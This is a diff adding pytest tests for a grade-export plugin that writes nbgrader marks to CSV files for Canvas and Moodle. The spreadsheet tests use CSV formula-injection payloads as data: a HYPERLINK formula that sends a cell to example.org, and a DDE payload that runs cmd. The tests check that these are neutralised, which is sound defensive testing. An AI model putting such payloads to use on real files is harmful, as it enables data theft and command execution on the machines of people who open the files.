@@ -1,0 +1,484 @@
+"""Marks leave in the forms that nbgrader, Canvas and Moodle read, and nobody is lost on the way."""
+
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import os
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+
+import pytest
+from conftest import ROOT
+from nbgrader.api import Gradebook
+from nbgrader.plugins import CsvExportPlugin
+
+from autograder.nbgrader_plugin.export.lms import (
+    CanvasExport,
+    CsvExport,
+    MoodleExport,
+    as_key,
+    as_text,
+    published_by_git,
+)
+from autograder.nbgrader_plugin.gradebook.roster import Unfit, read
+
+ATTENTION, MASKING = "05-attention", "06-masking"
+FORMULA = '=HYPERLINK("http://example.org?"&A1,"marks")'
+STUDENTS = {  # id: first name, last name, email, number in the system
+    "amina": ("Amina", "Bello, PhD", "amina@example.edu", "4711"),
+    "jgarcia": ("José", 'García "Pepe" Pérez', "Jose@Example.edu", "4712"),
+    "late": ("Lena", "Late", "late@example.edu", "4713"),
+    "essay": ("Emeka", "Essay", "essay@example.edu", "4714"),
+    "nothing": ("Nora", "Nothing", "nothing@example.edu", "4715"),
+    "formula": ("Fay", FORMULA, "fay@example.edu", "4716"),
+    "bare": (None, None, None, None),
+}
+SCORES = {"amina": 10.0, "jgarcia": 7.5, "late": 9.0, "essay": 4.0, "formula": 1 / 3, "bare": 2.0}  # of 05-attention
+CANVAS_HEADER = ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", f"{ATTENTION} (90)", "Project (91)"]
+WORKSHEET_HEADER = [
+    *("Identifier", "Full name", "Email address", "Status", "Grade", "Maximum grade"),
+    *("Grade can be changed", "Last modified (grade)", "Feedback comments"),
+]
+
+
+@pytest.fixture(scope="module")
+def made(tmp_path_factory):
+    """A gradebook of two assignments, made by nbgrader's own means."""
+    path = tmp_path_factory.mktemp("gradebook") / "gradebook.db"
+    with Gradebook(f"sqlite:///{path}", "transformers") as gradebook:
+        for name, points in ((ATTENTION, 8), (MASKING, 5)):
+            gradebook.add_assignment(name)
+            gradebook.add_notebook(name, name)
+            gradebook.add_grade_cell("test_softmax", name, name, max_score=points, cell_type="code")
+            gradebook.add_grade_cell("written", name, name, max_score=2, cell_type="markdown")
+        for student, (first, last, email, number) in STUDENTS.items():
+            gradebook.add_student(student, first_name=first, last_name=last, email=email, lms_user_id=number)
+        for student, score in SCORES.items():
+            gradebook.add_submission(ATTENTION, student)
+            automatic = gradebook.find_grade("test_softmax", ATTENTION, ATTENTION, student)
+            written = gradebook.find_grade("written", ATTENTION, ATTENTION, student)
+            automatic.auto_score, automatic.needs_manual_grade = score, False
+            written.manual_score, written.needs_manual_grade = 0.0, student == "essay"
+        [notebook] = gradebook.find_submission(ATTENTION, "late").notebooks
+        notebook.late_submission_penalty = 2.5
+        gradebook.db.commit()
+    return path
+
+
+@pytest.fixture
+def gradebook(made, tmp_path):
+    shutil.copy(made, tmp_path / "gradebook.db")
+    with Gradebook(f"sqlite:///{tmp_path}/gradebook.db", "transformers") as opened:
+        yield opened
+
+
+@pytest.fixture(autouse=True)
+def heard(caplog):
+    caplog.set_level(logging.INFO)
+    return caplog
+
+
+def written(exporter, gradebook, path):
+    exporter.to = str(path)
+    exporter.export(gradebook)
+    return table(path)
+
+
+def table(path):
+    return list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
+
+
+def save(path, rows, encoding="utf8", delimiter=","):
+    with path.open("w", encoding=encoding, newline="") as file:
+        csv.writer(file, delimiter=delimiter).writerows(rows)
+    return str(path)
+
+
+def canvas_row(name, number, login, mark="", project="50"):
+    return [name, number, f"S{number}", login, "Section 1", mark, project]
+
+
+def canvas_roster(path, *rows, points="10", **how):
+    head = [CANVAS_HEADER, ["    Points Possible", "", "", "", "", points, "(read only)"]]
+    return save(path, [*head, *rows], **how)
+
+
+def worksheet_row(number, name, email, grade="", maximum="10.00", comments=""):
+    return [f"Participant {number}", name, email, "Submitted", grade, maximum, "Yes", "-", comments]
+
+
+# --- nbgrader's CSV ---------------------------------------------------------------------------------------------------
+
+
+def test_the_csv_is_nbgraders_own_but_for_the_quotes(gradebook, tmp_path):
+    for student in ("amina", "jgarcia", "formula"):  # whose names break the columns of nbgrader's
+        gradebook.remove_student(student)
+    ours = written(CsvExport(), gradebook, tmp_path / "ours.csv")
+    theirs = written(CsvExportPlugin(), gradebook, tmp_path / "theirs.csv")
+    assert len(ours) == 1 + 2 * 4
+    assert ours == theirs
+
+
+def test_names_with_commas_and_quotes_stay_one_cell(gradebook, tmp_path):
+    header, *rows = written(CsvExport(), gradebook, tmp_path / "grades.csv")
+    assert {len(row) for row in rows} == {len(header)}
+    assert {dict(zip(header, row, strict=True))["last_name"] for row in rows} >= {"Bello, PhD", 'García "Pepe" Pérez'}
+    broken = written(CsvExportPlugin(), gradebook, tmp_path / "theirs.csv")
+    assert {len(row) for row in broken} != {len(header)}  # else we need none of our own
+
+
+def test_the_csv_may_be_of_one_assignment_and_some_students(gradebook, tmp_path):
+    exporter = CsvExport(student=["late", "nothing"], assignment=[ATTENTION])
+    header, *rows = written(exporter, gradebook, tmp_path / "grades.csv")
+    found = [dict(zip(header, row, strict=True)) for row in rows]
+    assert [(row["student_id"], row["raw_score"], row["late_submission_penalty"], row["score"]) for row in found] == [
+        ("late", "9.0", "2.5", "6.5"),
+        ("nothing", "0.0", "0.0", "0.0"),
+    ]
+
+
+@pytest.mark.parametrize(("what", "sentence"), [("student", "the student nobody"), ("assignment", "assignment nobody")])
+def test_what_the_gradebook_does_not_know_is_refused(gradebook, tmp_path, what, sentence):
+    with pytest.raises(Unfit, match=sentence):
+        written(CsvExport(**{what: ["nobody"]}), gradebook, tmp_path / "grades.csv")
+    assert not (tmp_path / "grades.csv").exists()
+
+
+@pytest.mark.parametrize("exporter", [CsvExport, CanvasExport, MoodleExport])
+def test_what_a_person_has_still_to_mark_is_reported_and_may_be_left_out(gradebook, tmp_path, heard, exporter):
+    rows = written(exporter(assignment=[ATTENTION]), gradebook, tmp_path / "all.csv")
+    assert (
+        "Submissions of 05-attention have still to be marked by a person (exported as they stand) (1): Emeka"
+        in heard.text
+    )
+    assert "Emeka Essay (essay)" in heard.text
+    fewer = written(
+        exporter(assignment=[ATTENTION], leave_out_unfinished=True, missing_as_zero=True)
+        if exporter is not CsvExport
+        else exporter(assignment=[ATTENTION], leave_out_unfinished=True),
+        *(gradebook, tmp_path / "fewer.csv"),
+    )
+    assert any("essay" in row for row in rows)
+    assert not any("essay" in row for row in fewer)
+
+
+# --- Canvas -----------------------------------------------------------------------------------------------------------
+
+
+def test_canvas_gets_its_own_table_back_with_the_marks_filled_in(gradebook, tmp_path, heard):
+    roster = canvas_roster(
+        tmp_path / "canvas.csv",
+        canvas_row("Bello, PhD, Amina", "4711", "somebody-else", "3"),  # the number says more than the login
+        canvas_row('García "Pepe" Pérez, José', "8888", "jose@example.edu"),
+        canvas_row("Late, Lena", "4713", "late"),
+        canvas_row("Essay, Emeka", "4714", "", "EX"),
+        canvas_row("Nothing, Nora", "4715", "nothing", "4"),
+        canvas_row("Stranger, Sam", "9999", "stranger"),
+        encoding="utf-8-sig",
+    )
+    rows = written(CanvasExport(roster=roster, assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert rows[:2] == [CANVAS_HEADER[:6], ["    Points Possible", "", "", "", "", "10"]]
+    assert {row[0]: row[5] for row in rows[2:]} == {
+        "Bello, PhD, Amina": "10",
+        'García "Pepe" Pérez, José': "",  # the login is that of jgarcia, whose number is another
+        "Late, Lena": "6.5",  # 9 less the penalty
+        "Essay, Emeka": "EX",
+        "Nothing, Nora": "4",
+        "Stranger, Sam": "",
+    }
+    said = heard.text
+    assert "Rows of" in said
+    assert "jose@example.edu is that of jgarcia, whose lms_user_id is 4712" in said
+    assert "are not in the gradebook and were not filled in (1): Stranger, Sam" in said
+    assert "Students have no mark for 05-attention and stay as they are (1): Nora Nothing (nothing)" in said
+    assert "enter theirs by hand (3): bare: 2; Fay" in said
+    assert "jgarcia): 7.5" in said
+    assert (
+        "excused from 05-attention, or not assigned to it, in Canvas, and stay so (1): Emeka Essay (essay): EX" in said
+    )
+    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf")  # as it came
+
+
+@pytest.mark.parametrize("delimiter", [",", ";"])
+def test_students_are_found_by_number_login_or_address(gradebook, tmp_path, delimiter):
+    gradebook.add_student("canvas-77")  # whom zip_collect took in under Canvas's number
+    gradebook.add_submission(ATTENTION, "canvas-77")
+    roster = canvas_roster(
+        tmp_path / "canvas.csv",
+        canvas_row("A", "4711", ""),
+        canvas_row("B", "", "JGARCIA"),
+        canvas_row("C", "", "Late@Example.edu"),
+        canvas_row("D", "bare", ""),
+        canvas_row("E", "77", ""),
+        delimiter=delimiter,
+    )
+    CanvasExport(roster=roster, assignment=[ATTENTION], to=str(tmp_path / "out.csv")).export(gradebook)
+    assert [row[5] for row in read(tmp_path / "out.csv").rows[1:]] == ["10", "7.5", "6.5", "2", "0"]
+    assert read(tmp_path / "out.csv").delimiter == delimiter
+
+
+def test_two_rows_for_one_student_are_left_alone(gradebook, tmp_path, heard):
+    twice = [canvas_row("One, Amina", "4711", ""), canvas_row("Two, Amina", "", "amina")]
+    roster = canvas_roster(tmp_path / "canvas.csv", *twice)
+    rows = written(CanvasExport(roster=roster, assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert [row[5] for row in rows[2:]] == ["", ""]
+    assert "One, Amina: 2 rows mean amina; Two, Amina: 2 rows mean amina" in heard.text
+    assert "Amina Bello, PhD (amina): 10" in heard.text  # and who is not in the file is said with the mark
+
+
+def test_two_students_with_one_address_are_left_alone(gradebook, tmp_path, heard):
+    gradebook.update_or_create_student("nothing", email="late@example.edu")
+    roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Somebody", "", "late@example.edu"))
+    rows = written(CanvasExport(roster=roster, assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert rows[2][5] == ""
+    assert "is that of 2 students" in heard.text
+
+
+def test_without_a_roster_canvas_gets_a_new_table_in_its_form(gradebook, tmp_path, heard):
+    rows = written(CanvasExport(), gradebook, tmp_path / "out.csv")
+    assert rows[0] == ["Student", "ID", "SIS Login ID", "Section", ATTENTION, MASKING]
+    assert rows[1] == ["    Points Possible", "", "", "", "10", "7"]
+    assert ["Bello, PhD, Amina", "4711", "amina", "", "10", ""] in rows
+    assert ["bare", "", "bare", "", "2", ""] in rows
+    assert "Students have no mark and are not in the file (1): Nora Nothing (nothing)" in heard.text
+    assert len(rows) == 2 + len(SCORES)
+
+
+def test_who_handed_in_nothing_has_a_zero_if_that_is_wanted(gradebook, tmp_path):
+    roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Nothing, Nora", "4715", "nothing", "4"))
+    exporter = CanvasExport(roster=roster, assignment=[ATTENTION], missing_as_zero=True)
+    assert written(exporter, gradebook, tmp_path / "out.csv")[2][5] == "0"
+
+
+def test_another_maximum_is_reported_and_marks_are_scaled_if_that_is_wanted(gradebook, tmp_path, heard):
+    roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Late, Lena", "4713", "late"), points="100")
+    exporter = CanvasExport(roster=roster, assignment=[ATTENTION])
+    assert written(exporter, gradebook, tmp_path / "out.csv")[2][5] == "6.5"
+    assert "Canvas has a maximum of 100 for 05-attention, and the gradebook one of 10" in heard.text
+    exporter.scale = True
+    assert written(exporter, gradebook, tmp_path / "out.csv")[2][5] == "65"
+
+
+def test_an_assignment_without_a_column_is_refused_with_what_to_do(gradebook, tmp_path):
+    roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Late, Lena", "4713", "late"))
+    exporter = CanvasExport(roster=roster, assignment=[MASKING])
+    with pytest.raises(Unfit, match=r"has no column for 06-masking\. Make the assignment in Canvas"):
+        written(exporter, gradebook, tmp_path / "out.csv")
+    exporter = CanvasExport(roster=roster, assignment=[ATTENTION], titles={ATTENTION: "Project (91)"})
+    assert written(exporter, gradebook, tmp_path / "out.csv")[0][5:] == ["Project (91)"]
+
+
+def test_without_a_choice_all_assignments_that_canvas_has_are_filled_in(gradebook, tmp_path, heard):
+    roster = canvas_roster(tmp_path / "canvas.csv", canvas_row("Late, Lena", "4713", "late"))
+    assert written(CanvasExport(roster=roster), gradebook, tmp_path / "out.csv")[2][5:] == ["6.5"]
+    assert "Assignments have no column in" in heard.text
+
+
+@pytest.mark.parametrize(
+    ("content", "sentence"),
+    [
+        (b"Student,ID,Section\n\xe9,1,2\n", "is not UTF-8"),
+        (b"", "is not a table"),
+        (b"just a line\n", "is not a table"),
+        (b"Student,ID,Section\nBello, Amina,4711,1\n", "has 4 cells, and there are 3 columns"),
+        (b'Student,ID,Section\n"Bello,4711,1\n', "is not a CSV file"),
+        (b"Name,Number\nBello,4711\n", "is not Canvas's gradebook: it has no column Student, ID, Section"),
+    ],
+)
+def test_a_roster_that_cannot_be_read_is_refused_and_nothing_is_written(gradebook, tmp_path, content, sentence):
+    (tmp_path / "canvas.csv").write_bytes(content)
+    exporter = CanvasExport(roster=str(tmp_path / "canvas.csv"), assignment=[ATTENTION], titles={ATTENTION: "Section"})
+    with pytest.raises(Unfit, match=sentence):
+        written(exporter, gradebook, tmp_path / "out.csv")
+    assert not (tmp_path / "out.csv").exists()
+    with pytest.raises(Unfit, match="cannot be read: No such file"):
+        read(tmp_path / "nowhere.csv")
+
+
+# --- Moodle -----------------------------------------------------------------------------------------------------------
+
+
+def test_moodles_worksheet_comes_back_with_its_grades_filled_in_and_all_else_as_it_was(gradebook, tmp_path, heard):
+    gradebook.add_student("moodle-55")  # whom zip_collect took in under Moodle's number
+    gradebook.add_submission(ATTENTION, "moodle-55")
+    rows = [
+        worksheet_row("51", "Lena Late", "late@example.edu", comments="- see page 2"),
+        worksheet_row("52", "José García", "jose@example.edu", "1.00"),
+        worksheet_row("53", "Sam Stranger", "sam@example.edu"),
+        worksheet_row("55", "Hidden", ""),
+    ]
+    roster = save(tmp_path / "worksheet.csv", [WORKSHEET_HEADER, *rows])
+    out = written(MoodleExport(roster=roster, assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert [row[4] for row in out[1:]] == ["6.5", "7.5", "", "0"]
+    grade = WORKSHEET_HEADER.index("Grade")
+    assert [row[:grade] + row[grade + 1 :] for row in out[1:]] == [row[:grade] + row[grade + 1 :] for row in rows]
+    assert out[0] == WORKSHEET_HEADER
+    assert "are not in the gradebook and were not filled in (1): Sam Stranger" in heard.text
+    assert "enter theirs by hand" in heard.text
+
+
+def test_marks_that_moodle_would_pass_over_are_reported(gradebook, tmp_path, heard):
+    row = worksheet_row("51", "Amina Bello", "amina@example.edu", maximum="8.00")
+    roster = save(tmp_path / "worksheet.csv", [WORKSHEET_HEADER, row])
+    exporter = MoodleExport(roster=roster, assignment=[ATTENTION], student=["amina", "late"])
+    assert written(exporter, gradebook, tmp_path / "out.csv")[1][4] == "10"
+    assert "Students have more for 05-attention than Moodle's maximum" in heard.text
+    heard.clear()
+    exporter.scale = True
+    assert written(exporter, gradebook, tmp_path / "out.csv")[1][4] == "8"
+    assert "maximum" not in heard.text
+
+
+def test_a_worksheet_is_of_one_assignment(gradebook, tmp_path):
+    roster = save(tmp_path / "worksheet.csv", [WORKSHEET_HEADER, worksheet_row("51", "Lena", "late@example.edu")])
+    with pytest.raises(Unfit, match="worksheet of one assignment, and the gradebook has 2"):
+        written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")
+
+
+def test_a_worksheet_in_another_language_needs_its_headings(gradebook, tmp_path):
+    german = {
+        **{"Identifier": "ID", "Email address": "E-Mail-Adresse", "Grade": "Bewertung"},
+        **{"Last modified (grade)": "Zuletzt geändert (Bewertung)", "Maximum grade": "Bestwertung"},
+    }
+    header = [german.get(name, name) for name in WORKSHEET_HEADER]
+    row = worksheet_row("51", "Lena Late", "late@example.edu", maximum="10,00")
+    roster = save(tmp_path / "worksheet.csv", [header, row], delimiter=";")
+    with pytest.raises(Unfit, match="none of the columns that Moodle knows students by"):
+        written(MoodleExport(roster=roster, assignment=[ATTENTION], titles={ATTENTION: "Bewertung"}), gradebook, roster)
+    exporter = MoodleExport(roster=roster, assignment=[ATTENTION], headings=german, decimal=",")
+    written(exporter, gradebook, tmp_path / "out.csv")
+    assert read(tmp_path / "out.csv").rows[0][4] == "6,5"
+
+
+def test_moodles_grade_export_comes_back_too(gradebook, tmp_path):
+    header = ["First name", "Last name", "ID number", "Email address", f"Assignment: {ATTENTION} (Real)"]
+    roster = save(tmp_path / "grades.csv", [header, ["Amina", "Bello", "4711", "old@example.edu", "-"]])
+    assert written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")[1][4] == "10"
+    both = [*header, f"Assignment: {ATTENTION} (Percentage)"]
+    roster = save(tmp_path / "grades.csv", [both, ["Amina", "Bello", "4711", "old@example.edu", "-", "-"]])
+    with pytest.raises(Unfit, match="Several columns"):
+        written(MoodleExport(roster=roster), gradebook, tmp_path / "out.csv")
+
+
+def test_without_a_roster_moodle_gets_a_new_table(gradebook, tmp_path):
+    rows = written(MoodleExport(assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert rows[0] == ["Username", "ID number", "Email address", "First name", "Last name", ATTENTION]
+    assert ["jgarcia", "4712", "Jose@Example.edu", "José", 'García "Pepe" Pérez', "7.5"] in rows
+    assert [row[5] for row in rows if row[0] == "formula"] == ["0.3333"]
+
+
+# --- spreadsheets -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("exporter", [CsvExport, CanvasExport, MoodleExport])
+def test_a_name_that_is_a_formula_leaves_as_text(gradebook, tmp_path, exporter):
+    rows = written(exporter(assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert any(f"'{FORMULA}" in cell for row in rows for cell in row)
+    assert not any(cell.lstrip().startswith(("=", "@")) for row in rows for cell in row)
+
+
+def test_a_formula_in_a_roster_leaves_as_text_and_its_row_is_found_all_the_same(gradebook, tmp_path, heard):
+    roster = canvas_roster(
+        tmp_path / "canvas.csv",
+        canvas_row("=1+1", "4711", "+amina"),
+        canvas_row("Late, Lena", "4713", "=cmd|' /C calc'!A0"),
+    )
+    rows = written(CanvasExport(roster=roster, assignment=[ATTENTION]), gradebook, tmp_path / "out.csv")
+    assert rows[2][:4] == ["'=1+1", "4711", "S4711", "+amina"]  # which cannot do harm, and Canvas looks for it
+    assert rows[3][3] == "'=cmd|' /C calc'!A0"
+    assert [row[5] for row in rows[2:]] == ["10", "6.5"]
+    assert "Cells could be run by a spreadsheet; made a text (1): Late, Lena: SIS Login ID" in heard.text
+
+
+@pytest.mark.parametrize("cell", ["=1", "+1", "-1", "@A1", "\t=1", " =1", "＝1", "\r=1"])
+def test_what_begins_like_a_formula_becomes_text(cell):
+    assert as_text(cell) == f"'{cell}"
+
+
+@pytest.mark.parametrize("cell", ["", "-", "Bello", "José", "4711", "a=b", "o'Neil", " padded"])
+def test_what_does_not_stays_as_it_is(cell):
+    assert as_text(as_key(cell)) == cell
+
+
+@pytest.mark.parametrize("cell", ["=A1()", "-cmd|' /C calc'!A0", '@SUM("a")', "+file:///x"])
+def test_a_key_that_can_do_harm_becomes_text(cell):
+    assert as_key(cell) == f"'{cell}"
+    assert as_key("-dash.name@example.edu") == "-dash.name@example.edu"
+
+
+# --- where it goes ----------------------------------------------------------------------------------------------------
+
+
+def test_marks_are_not_written_where_git_would_publish_them(gradebook, tmp_path):
+    subprocess.run(["git", "init", "--quiet", tmp_path], check=True)
+    shutil.copy(ROOT / ".gitignore", tmp_path)
+    with pytest.raises(Unfit, match="git does not ignore it: marks would be published"):
+        written(CsvExport(), gradebook, tmp_path / "marks.csv")
+    assert not (tmp_path / "marks.csv").exists()
+    for name in ("classroom/marks.csv", "grades.csv", "grades-canvas.csv"):
+        assert len(written(CsvExport(), gradebook, tmp_path / name)) == 1 + 2 * len(STUDENTS)
+    status = subprocess.run(["git", "-C", tmp_path, "status", "--short", "-uall"], capture_output=True, text=True)
+    assert "grades" not in status.stdout.replace("gradebook", "")
+    assert "marks.csv" not in status.stdout
+
+
+def test_where_there_is_no_git_anything_goes(tmp_path, monkeypatch):
+    assert not published_by_git(tmp_path / "new" / "grades.csv")
+    monkeypatch.setenv("PATH", str(tmp_path))
+    assert not published_by_git(ROOT / "marks.csv")
+
+
+def test_marks_can_be_read_by_their_owner_only(gradebook, tmp_path):
+    written(CsvExport(), gradebook, tmp_path / "grades.csv")
+    assert (tmp_path / "grades.csv").stat().st_mode & 0o077 == 0
+
+
+# --- the commands -----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.slow
+def test_the_commands_of_the_readme_work(made, tmp_path):
+    (tmp_path / "autograder").symlink_to(ROOT / "autograder")
+    for name in ("nbgrader_config.py", "students.example.csv"):
+        shutil.copy(ROOT / name, tmp_path)
+    (tmp_path / "course").symlink_to(ROOT / "course")
+    classroom = tmp_path / "classroom"
+    archive = classroom / "downloaded" / ATTENTION / "archive"
+    archive.mkdir(parents=True)
+    with zipfile.ZipFile(archive / "Course-Attention-77.zip", "w") as download:
+        download.writestr(f"Lena Late_51_assignsubmission_file_/{ATTENTION} (1).ipynb", "{}")
+    shutil.copy(made, classroom / "gradebook.db")
+    canvas_roster(classroom / "canvas.csv", canvas_row("Late, Lena", "4713", "late"))
+    save(classroom / "worksheet.csv", [WORKSHEET_HEADER, worksheet_row("51", "Lena Late", "late@example.edu")])
+    readme = [line.split("#")[0].strip() for line in (ROOT / "README.md").read_text().splitlines()]
+    starts = ("nbgrader export", "nbgrader db student import", "nbgrader zip_collect", "cp students")
+    commands = [line for line in readme if line.startswith(starts)]
+    assert len(commands) == 7
+    environment = {key: value for key, value in os.environ.items() if key not in ("COURSE_CLASSROOM", "PYTHONPATH")}
+    environment["PATH"] = f"{Path(sys.executable).parent}{os.pathsep}{environment['PATH']}"
+    for command in commands:
+        done = subprocess.run(command, shell=True, cwd=tmp_path, env=environment, capture_output=True, text=True)
+        assert done.returncode == 0, f"{command}\n{done.stdout}{done.stderr}"
+    assert "Bello, PhD" in (classroom / "grades.csv").read_text()
+    assert [row[5] for row in table(classroom / "grades-canvas.csv")[2:]] == ["6.5"]
+    assert [row[4] for row in table(classroom / "grades-moodle.csv")[1:]] == ["6.5"]
+    submitted = {path.relative_to(classroom / "submitted").parts for path in classroom.glob("submitted/*/*/*")}
+    assert submitted == {(who, ATTENTION, f"{ATTENTION}.ipynb") for who in ("moodle-51", "late")}  # first, then known
+    with Gradebook(f"sqlite:///{classroom}/gradebook.db", "transformers") as gradebook:
+        assert gradebook.find_student("ngozi").lms_user_id == "20413"
+    refused = subprocess.run(
+        "nbgrader export --assignment \"['07-multi-head']\"",
+        shell=True,
+        cwd=tmp_path,
+        env=environment,
+        capture_output=True,
+        text=True,
+    )
+    assert refused.returncode == 1
+    assert "The gradebook does not know the assignment 07-multi-head." in refused.stderr
+    assert "Traceback" not in refused.stderr
